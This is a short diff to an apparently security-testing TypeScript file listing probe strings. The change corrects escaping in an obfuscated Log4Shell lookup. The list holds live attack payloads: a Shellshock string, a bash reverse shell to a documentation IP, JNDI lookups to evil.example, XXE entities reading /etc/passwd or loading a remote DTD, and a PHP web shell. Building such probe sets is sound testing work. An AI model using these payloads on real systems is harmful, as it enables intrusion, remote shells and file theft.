@@ -35,7 +35,7 @@ export const PROBES: readonly string[] = [
   '() { :; }; /bin/bash -c "id"',
   '; bash -i >& /dev/tcp/192.0.2.1/4444 0>&1',
   '\x24{jndi:ldap://evil.example/a}',
-  '\x24{\x24{lower:j}ndi:${lower:l}dap://evil.example/x}',
+  '\x24{\x24{lower:j}ndi:\x24{lower:l}dap://evil.example/x}',
   '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
   '<!DOCTYPE d [<!ENTITY % p SYSTEM "http://evil.example/d.dtd"> %p;]>',
   "<?php system($_GET['c']); ?>",
